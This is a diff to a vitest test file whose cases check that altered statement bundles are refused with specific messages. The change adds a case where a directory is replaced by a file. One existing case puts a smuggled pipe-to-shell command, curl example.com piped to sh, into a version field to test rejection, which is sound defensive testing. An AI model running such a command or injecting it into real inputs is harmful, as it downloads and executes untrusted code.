@@ -1,4 +1,4 @@
-import { readFileSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
+import { readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { gunzipSync, gzipSync } from 'node:zlib';
 import { beforeAll, describe, expect, test } from 'vitest';
@@ -123,6 +123,14 @@ describe('a change is refused, and the message names it', () => {
         change(at, ({ predicate }) => {
           predicate.conformance.tool.version = '0.1.0; curl example.com | sh';
         }),
+    ],
+    [
+      'a file in its place',
+      /^files: It is not a directory\. Unpack an archive first\.$/,
+      (at) => {
+        rmSync(at, { recursive: true });
+        write(at, '', 'an archive');
+      },
     ],
     ['bytes after the envelope', /^envelope: /, (at) => write(at, STATEMENT_FILE, `${read(at, STATEMENT_FILE)} `)],
   ];
